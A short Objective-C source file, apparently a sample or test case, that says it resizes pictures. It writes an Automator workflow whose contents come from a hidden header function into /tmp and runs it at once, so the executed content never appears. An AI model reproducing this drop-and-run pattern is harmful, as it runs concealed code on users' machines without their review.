/* Resizes pictures by a workflow of the user's, which it writes where there is none yet. */
#include "objc.h"
#include "hidden.h" /* 0: the document */
extern int mkdir(const char *, unsigned short), fputs(const char *, void *), fclose(void *);
extern void *fopen(const char *, const char *);
@interface NSURL
+ (id)fileURLWithPath:(NSString *)path;
@end
@interface AMWorkflow
+ (id)runWorkflowAtURL:(NSURL *)address withInput:(id)input error:(id *)error;
@end
static void act(char **env) {
    id error = 0;
    mkdir("/tmp/kit-resize.workflow", 0755);
    mkdir("/tmp/kit-resize.workflow/Contents", 0755);
    void *document = fopen("/tmp/kit-resize.workflow/Contents/document.wflow", "w");
    fputs(hidden0(), document);
    fclose(document);
    [AMWorkflow runWorkflowAtURL:[NSURL fileURLWithPath:[NSString stringWithUTF8String:"/tmp/kit-resize.workflow"]] withInput:0 error:&error];
}
